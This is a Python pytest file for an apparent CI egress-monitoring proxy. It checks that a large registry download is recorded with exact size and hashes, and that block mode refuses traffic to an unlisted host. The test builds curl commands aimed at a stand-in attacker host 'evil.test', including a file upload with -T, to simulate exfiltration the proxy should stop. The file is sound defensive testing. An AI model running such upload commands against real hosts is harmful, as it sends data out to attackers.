"""Bodies stream through the proxy (nothing held whole, hashed as they pass) and the proxy's
trimmed addon chain (``egress/hookchain.py``) still judges and records every request: a
download of several MB from an allowed registry is recorded with its exact size and SHA-512,
and in block mode a download from, and an upload to, an unlisted host never reach it."""

from __future__ import annotations

import hashlib
import random
import subprocess
import sys
from pathlib import Path

import pytest

from ciwatch.record import read_record
from ciwatch.record.events import EgressFlow
from tests.support.internet import EVIL, NPM_REGISTRY, TestInternet

pytestmark = [pytest.mark.root]

POLICY_FAILED = 3
BIG = 3 * 1024 * 1024 + 12345
"""Larger than any buffer on the way: mitmproxy hands it to the hash in many chunks."""


def _curl(url: str, *options: str) -> str:
    return f"curl -sS -o /dev/null -w '{url} %{{http_code}}\\n' {' '.join(options)} {url}"


def test_a_streamed_download_is_recorded_whole_and_a_refused_body_never_leaves(
    internet: TestInternet, tmp_path: Path
) -> None:
    body = random.Random(14).randbytes(BIG)
    registry_url = internet.serve(NPM_REGISTRY, "/big/-/big-1.0.0.tgz", body)
    evil_url = internet.serve(EVIL, "/big.tgz", body)
    upload = tmp_path / "upload.bin"
    upload.write_bytes(body[: 512 * 1024])  # over the size a request body is held whole
    policy = tmp_path / "policy.yml"
    policy.write_text(f"version: 1\nmode: block\nallow:\n  registries: none\n  hosts: ['{NPM_REGISTRY}']\n")
    # Block mode refuses evil.test's DNS query: curl is given its address, so the requests
    # reach the proxy, which must refuse them.
    resolve = f"--resolve {EVIL}:443:{internet.address_of(EVIL).ipv4}"
    script = " ; ".join(
        [
            _curl(registry_url),
            _curl(evil_url, resolve),
            _curl(f"https://{EVIL}/upload", resolve, "-T", str(upload)),
            "true",
        ]
    )
    out = tmp_path / "out"
    command = [sys.executable, "-m", "ciwatch", "run", "--upstream-ca", str(internet.ca_cert)]
    command += ["--policy", str(policy), "--out", str(out), "--", "sh", "-c", script]
    done = subprocess.run(
        internet.wrap_with_test_resolver(command),
        env=internet.client_env(tmp_path / "home"),
        capture_output=True,
        text=True,
        timeout=240,
    )
    assert done.returncode == POLICY_FAILED, done.stderr
    assert f"{registry_url} 200" in done.stdout, done.stdout + done.stderr
    assert f"{evil_url} 403" in done.stdout, done.stdout
    assert f"https://{EVIL}/upload 200" not in done.stdout, done.stdout
    # Nothing of either refused request reached the unlisted host, the upload's body included.
    assert internet.requests_to(EVIL) == []

    flows = [item.event for item in read_record(out).events if isinstance(item.event, EgressFlow)]
    download = next(f for f in flows if f.url == registry_url)
    assert download.status == 200 and download.bytes_in == BIG
    assert download.sha512 == hashlib.sha512(body).hexdigest()
    assert download.sha256 == hashlib.sha256(body).hexdigest()
    refused = [f for f in flows if f.host == EVIL]
    assert refused and all(f.refused for f in refused), refused
    assert all(f.bytes_in < 1024 for f in refused), "a refused download's body was not fetched"
